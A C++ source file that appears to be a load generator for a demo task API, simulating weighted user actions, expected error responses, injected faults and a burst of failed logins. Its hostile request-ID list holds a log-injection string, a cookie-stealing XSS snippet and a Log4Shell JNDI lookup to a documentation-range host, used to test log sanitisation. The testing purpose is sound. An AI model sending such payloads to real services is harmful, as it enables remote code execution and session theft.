#include "traffic/visitor.h"

#include <algorithm>
#include <array>
#include <thread>
#include <utility>

#include "json/object.h"
#include "json/writer.h"

namespace traffic {
namespace {

namespace demo = examples::demo;
namespace http = examples::http;
namespace json = examples::json;

constexpr std::chrono::seconds kTimeout{10};  // the slowest report takes one or two

constexpr std::array<const char*, 5> kUserAgents = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "TaskApp/5.14.2 (iPhone; iOS 17.5.1; Scale/3.00)", "TaskApp-Android/5.14.0 (Pixel 8; Android 14)",
    "curl/8.5.0"};

constexpr std::array<const char*, 8> kTitles = {"Fix login redirect loop",    "Call back: invoice 1023",
                                                "Überprüfung der Rechnungen", "会議の準備",
                                                "Onboard new hire",           "Préparer la réunion du comité",
                                                "Buy \"large\" whiteboard",   "Clean up old exports"};

// Ids that a service must not let into its lines as they are. Line breaks cannot be tried: no header can hold
// one.
const std::array<std::string, 5> kHostileIds = {std::string(700, 'A'), "x\",\"level\":\"CRITICAL\",\"y\":\"",
                                                "<script>alert(document.cookie)</script>",
                                                "${jndi:ldap://203.0.113.66/a}", "caf\xe9-\xff\xfe-id"};

std::string AddressOf(int number) {  // of the ranges reserved for documentation
  const uint64_t bits = demo::Scramble(static_cast<uint64_t>(number) + 4000);
  return (bits % 2 == 0 ? "192.0.2." : "198.51.100.") + std::to_string(1 + (bits >> 8) % 254);
}

std::string LoginBody(const std::string& email, const std::string& password) {
  json::Writer body;
  body.BeginObject();
  body.Field("email", email);
  body.Field("password", password);
  body.EndObject();
  return std::move(body).Take();
}

}  // namespace

const std::initializer_list<Visitor::Action> Visitor::kActions = {
    {"list tasks", 34, &Visitor::ListTasks},
    {"read a task", 22, &Visitor::ReadTask},
    {"create a task", 14, &Visitor::CreateTask},
    {"change a task", 11, &Visitor::ChangeTask},
    {"list projects", 6, &Visitor::ListProjects},
    {"delete a task", 3, &Visitor::DeleteTask},
    {"quick report", 3, &Visitor::QuickReport},
    {"read a task that does not exist (404)", 2, &Visitor::MissingTask},
    {"create an invalid task (422)", 1.5, &Visitor::InvalidTask},
    {"change a task from an old version (409)", 1, &Visitor::ConflictingChange},
    {"hostile X-Request-ID", 0.7, &Visitor::HostileRequestId},
    {"log in and out again", 0.6, &Visitor::LogOut},
    {"injected fault (500)", 0.6, &Visitor::InjectedFault},
    {"token that was never issued (401)", 0.5, &Visitor::StaleToken},
    {"slow report", 0.3, &Visitor::SlowReport},
    {"burst of failed logins from one address (401)", 0.15, &Visitor::LoginBurst},
};

Visitor::Visitor(const http::Origin& service, uint64_t seed, World& world, Tally& tally)
    : client_(service, kTimeout), random_(seed), world_(world), tally_(tally) {}

std::string Visitor::DescribeActions() {
  std::string out;
  for (const Action& action : kActions) {
    std::string weight = std::to_string(action.weight);
    weight.resize(weight.find('.') + 3);
    out += weight + "\t" + action.name + "\n";
  }
  return out;
}

void Visitor::Visit() {
  Guest guest = DrawGuest();
  if (guest.token.empty() && !LogIn(guest)) {
    return;
  }
  double total = 0;
  for (const Action& action : kActions) {
    total += action.weight;
  }
  double rest = random_.Unit() * total;
  for (const Action& action : kActions) {
    rest -= action.weight;
    if (rest < 0) {
      (this->*action.act)(guest);
      return;
    }
  }
}

Visitor::Guest Visitor::DrawGuest() {
  const int number = popularity_.Draw(random_);
  return {.number = number,
          .person = demo::PersonNumber(number),
          .address = AddressOf(number),
          .user_agent = kUserAgents[static_cast<size_t>(number) % kUserAgents.size()],
          .token = world_.Token(number).value_or("")};
}

std::string Visitor::RequestToken(Guest& guest) {
  const std::string body = LoginBody(guest.person.email, guest.person.password);
  const auto response = Send(guest, MakeCall(guest, "POST", "/api/v1/login", body), {200});
  const auto answer = json::Object::Parse(response.body);
  return answer ? answer->String("access_token").value_or("") : "";
}

bool Visitor::LogIn(Guest& guest) {
  guest.token = RequestToken(guest);
  if (guest.token.empty()) {
    return false;
  }
  world_.LoggedIn(guest.number, guest.token);
  return true;
}

http::Call Visitor::MakeCall(const Guest& guest, std::string method, std::string target, std::string body) {
  http::Call call{
      .method = std::move(method), .target = std::move(target), .headers = {}, .body = std::move(body)};
  call.headers.Add("User-Agent", guest.user_agent);
  call.headers.Add("X-Forwarded-For", guest.address);
  if (!guest.token.empty()) {
    call.headers.Add("Authorization", "Bearer " + guest.token);
  }
  return call;
}

http::Response Visitor::Send(const Guest& guest, const http::Call& call,
                             std::initializer_list<int> expected) {
  const auto start = std::chrono::steady_clock::now();
  try {
    http::Response response = client_.Send(call);
    const std::chrono::duration<double, std::milli> spent = std::chrono::steady_clock::now() - start;
    const bool is_expected = std::ranges::find(expected, response.status) != expected.end();
    tally_.Answered(response.status, is_expected, spent.count());
    if (response.status == 401 && !is_expected) {
      world_.LoggedOut(guest.number);  // the provider has forgotten the token; next time there is a new login
    }
    return response;
  } catch (const http::ConnectionError&) {
    tally_.Unanswered();
    return {.status = 0, .body = {}, .content_type = {}, .headers = {}};
  }
}

void Visitor::ListTasks(Guest& guest) {
  constexpr std::array<const char*, 4> kQueries = {"", "?status=open", "?status=in_progress&limit=50",
                                                   "?limit=5"};
  const std::string query = kQueries[static_cast<size_t>(random_.Below(kQueries.size()))];
  Send(guest, MakeCall(guest, "GET", "/api/v1/tasks" + query), {200});
}

void Visitor::ReadTask(Guest& guest) {
  const auto task = world_.Take(OrganizationOf(guest), random_);
  if (!task) {
    ListTasks(guest);
    return;
  }
  Send(guest, MakeCall(guest, "GET", "/api/v1/tasks/" + task->id), {200});
  world_.Remember(OrganizationOf(guest), *task);
}

void Visitor::CreateTask(Guest& guest) {
  const int organization = OrganizationOf(guest);
  json::Writer body;
  body.BeginObject();
  body.Field("title", kTitles[static_cast<size_t>(random_.Below(kTitles.size()))]);
  body.Field("project_id", demo::ProjectId(organization, random_.Below(demo::kProjectsPerOrganization)));
  body.Field("priority", random_.Below(4));
  const int colleague = popularity_.Draw(random_);
  const bool assigned = demo::OrganizationOf(colleague) == organization;
  if (assigned) {
    body.Field("assignee_id", demo::PersonNumber(colleague).id);
  }
  body.EndObject();
  const bool may = guest.person.role == "member";
  const auto response =
      Send(guest, MakeCall(guest, "POST", "/api/v1/tasks", std::move(body).Take()), {may ? 201 : 403});
  const auto task = json::Object::Parse(response.body);
  if (response.status == 201 && task && task->String("id")) {
    world_.Remember(organization, {*task->String("id"), 1});
    if (assigned) {
      tally_.Sample(std::string(response.headers.Get("X-Request-ID")));
    }
  }
}

void Visitor::ChangeTask(Guest& guest) {
  auto task = world_.Take(OrganizationOf(guest), random_);
  if (!task) {
    ListTasks(guest);
    return;
  }
  constexpr std::array<const char*, 3> kStatus = {"open", "in_progress", "done"};
  json::Writer body;
  body.BeginObject();
  body.Field("version", task->version);
  body.Field("status", kStatus[static_cast<size_t>(random_.Below(kStatus.size()))]);
  body.EndObject();
  const bool may = guest.person.role == "member";
  const auto response =
      Send(guest, MakeCall(guest, "PATCH", "/api/v1/tasks/" + task->id, std::move(body).Take()),
           {may ? 200 : 403});
  task->version += response.status == 200 ? 1 : 0;
  world_.Remember(OrganizationOf(guest), *task);
}

void Visitor::DeleteTask(Guest& guest) {
  const auto task = world_.Take(OrganizationOf(guest), random_);
  if (!task) {
    return;
  }
  const bool may = guest.person.role == "member";
  if (Send(guest, MakeCall(guest, "DELETE", "/api/v1/tasks/" + task->id), {may ? 204 : 403}).status != 204) {
    world_.Remember(OrganizationOf(guest), *task);
  }
}

void Visitor::ListProjects(Guest& guest) { Send(guest, MakeCall(guest, "GET", "/api/v1/projects"), {200}); }

void Visitor::QuickReport(Guest& guest) {
  Send(guest,
       MakeCall(guest, "GET", "/api/v1/reports/" + demo::ReportId(OrganizationOf(guest), random_.Below(2))),
       {200});
}

void Visitor::SlowReport(Guest& guest) {
  const std::string id = demo::ReportId(OrganizationOf(guest), demo::kReportsPerOrganization - 1);
  Send(guest, MakeCall(guest, "GET", "/api/v1/reports/" + id), {200});
}

void Visitor::MissingTask(Guest& guest) {
  const std::string id = "tsk_" + demo::Hex(static_cast<uint64_t>(random_.Below(1 << 30)), 10);
  Send(guest, MakeCall(guest, "GET", "/api/v1/tasks/" + id), {404});
}

void Visitor::InvalidTask(Guest& guest) {
  const bool may = guest.person.role == "member";
  constexpr std::array<const char*, 3> kBodies = {
      R"({"title":"","priority":9})", R"({"title":"no project"})",
      R"({"title":"unknown project","project_id":"prj_none","priority":1})"};
  const std::string body = kBodies[static_cast<size_t>(random_.Below(kBodies.size()))];
  Send(guest, MakeCall(guest, "POST", "/api/v1/tasks", body), {may ? 422 : 403});
}

void Visitor::ConflictingChange(Guest& guest) {
  const auto task = world_.Take(OrganizationOf(guest), random_);
  if (!task) {
    return;
  }
  json::Writer body;
  body.BeginObject();
  body.Field("version", task->version + 1000);
  body.Field("priority", 3);
  body.EndObject();
  const bool may = guest.person.role == "member";
  Send(guest, MakeCall(guest, "PATCH", "/api/v1/tasks/" + task->id, std::move(body).Take()),
       {may ? 409 : 403});
  world_.Remember(OrganizationOf(guest), *task);
}

void Visitor::InjectedFault(Guest& guest) {
  http::Call call = MakeCall(guest, "GET", "/api/v1/projects");
  call.headers.Add("X-Demo-Fault", random_.Below(2) == 0 ? "exception" : "database");
  Send(guest, call, {500});
}

void Visitor::HostileRequestId(Guest& guest) {
  http::Call call = MakeCall(guest, "GET", "/api/v1/projects");
  call.headers.Add("X-Request-ID", kHostileIds[static_cast<size_t>(random_.Below(kHostileIds.size()))]);
  Send(guest, call, {200});
}

void Visitor::LogOut(Guest& guest) {
  // From a session of its own: the one that other visitors use in this person's name stays.
  guest.token.clear();
  guest.token = RequestToken(guest);
  if (!guest.token.empty()) {
    Send(guest, MakeCall(guest, "POST", "/api/v1/logout"), {204});
  }
}

void Visitor::StaleToken(Guest& guest) {
  guest.token = "never-issued-" + demo::Hex(static_cast<uint64_t>(random_.Below(1 << 30)), 8);
  Send(guest, MakeCall(guest, "GET", "/api/v1/tasks"), {401});
}

void Visitor::LoginBurst(Guest& guest) {
  guest.token.clear();
  guest.address = "203.0.113." + std::to_string(1 + random_.Below(8));
  guest.user_agent = "python-requests/2.32.3";
  const int tries = 10 + random_.Below(6);
  for (int i = 0; i < tries; ++i) {
    const std::string guess = "guess-" + std::to_string(i);
    Send(guest, MakeCall(guest, "POST", "/api/v1/login", LoginBody(guest.person.email, guess)), {401});
    std::this_thread::sleep_for(std::chrono::milliseconds(20 + random_.Below(80)));
  }
}

}  // namespace traffic
